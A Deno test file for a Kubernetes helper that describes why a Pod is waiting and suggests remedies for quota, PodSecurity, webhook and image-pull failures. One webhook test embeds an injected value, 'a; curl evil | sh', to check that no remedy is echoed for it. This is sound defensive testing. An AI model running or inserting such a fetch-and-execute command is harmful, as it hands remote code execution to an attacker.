import assert from "node:assert/strict";
import { parse } from "yaml";
import type { WaitReason } from "../../k8s/workloads/pod_status.ts";
import { VERSION } from "../command/version.ts";
import { describeWait } from "./describe_wait.ts";

const IMAGE = "docker.io/denoland/deno:distroless-2.9.6";

function said(reason: Partial<WaitReason>, serverImage = IMAGE): string {
  return describeWait({ kind: "other", reason: "R", message: "", ...reason }, serverImage);
}

Deno.test("what the Pod waits for is described in the cluster's words, once", () => {
  assert.equal(said({ reason: "FailedMount", message: "no such volume" }), "FailedMount: no such volume");
  assert.equal(said({ kind: "pulling", reason: "Pulling", message: 'Pulling image "x"' }), 'Pulling image "x"');
  assert.equal(said({ reason: "SchedulingGated" }), "SchedulingGated");
});

Deno.test("a known remedy is added", () => {
  const remedy = (message: string) => said({ kind: "admission", message }).split("\n")[1];
  assert.match(remedy('pods "x" is forbidden: exceeded quota: q')!, /quota/);
  assert.match(remedy('pods "x" is forbidden: violates PodSecurity "restricted:latest"')!, /restricted/);
  for (const reason of ["maximum cpu usage per Pod is 1, but limit is 2", "cpu max limit to request ratio per Container is 4, but …"]) {
    assert.match(remedy(`pods "x" is forbidden: ${reason}`)!, /--server-overrides '{"resources": /);
  }
  for (const reason of ["no PriorityClass with name x was found", "insufficient quota to match these scopes: [{PriorityClass In [a]}]"]) {
    assert.match(remedy(`pods "x" is forbidden: ${reason}`)!, /--server-overrides '{"priorityClassName": /);
  }
  const webhook = said({ kind: "admission", message: 'failed calling webhook "a.b": no' });
  assert.match(webhook, /kubectl get mutatingwebhookconfigurations,\S+ .* \| grep a\.b$/m);
  const yaml = /^ +(objectSelector: .*)$/m.exec(webhook)?.[1] ?? "";
  assert.deepEqual(parse(yaml), { objectSelector: { matchExpressions: [{ key: "kurun.dev/session", operator: "DoesNotExist" }] } });
  assert.equal(remedy("something else"), undefined);
  assert.equal(remedy('failed calling webhook "a; curl evil | sh": no'), undefined);
});

Deno.test("an image of the server that cannot be pulled is named, with how to bring it; the user's own is not", () => {
  const failed = { kind: "image", reason: "ErrImagePull", message: "no such host" } as const;
  assert.equal(
    said({ ...failed, image: IMAGE }),
    `ErrImagePull: no such host
  Copy ${IMAGE} to a registry that the nodes can pull from, and name the copy with --server-image or KURUN_SERVER_IMAGE. ` +
      "Without a registry, use what `kurun image` writes (see kurun image --help).",
  );
  const own = `registry.test/kurun-dev/server:${VERSION}`;
  assert.match(
    said({ ...failed, image: own }, own),
    /^ErrImagePull: no such host\n {2}Write this image with `kurun image`, and load it .*$/,
  );
  assert.equal(said({ ...failed, image: "busybox" }), "ErrImagePull: no such host");
});
